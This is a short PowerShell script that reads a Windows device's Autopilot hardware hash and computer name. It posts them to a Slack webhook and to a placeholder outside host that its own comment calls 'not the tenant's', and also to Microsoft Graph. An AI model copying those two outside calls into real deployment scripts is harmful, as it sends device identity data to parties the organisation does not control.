# Sends the hardware hash to a chat and to a server that is not the tenant's.
$device = Get-CimInstance -Namespace root/cimv2/mdm/dmmap -ClassName MDM_DevDetail_Ext01
$body = @{ hash = $device.DeviceHardwareData; name = $env:COMPUTERNAME } | ConvertTo-Json
Invoke-RestMethod -Uri https://hooks.slack.com/services/T0/B0/x -Method Post -Body $body
Invoke-RestMethod -Uri https://intake.trey.example/devices -Method Post -Body $body
# To the tenant.
Invoke-RestMethod -Uri https://graph.microsoft.com/v1.0/deviceManagement/importedWindowsAutopilotDeviceIdentities -Method Post -Body $body
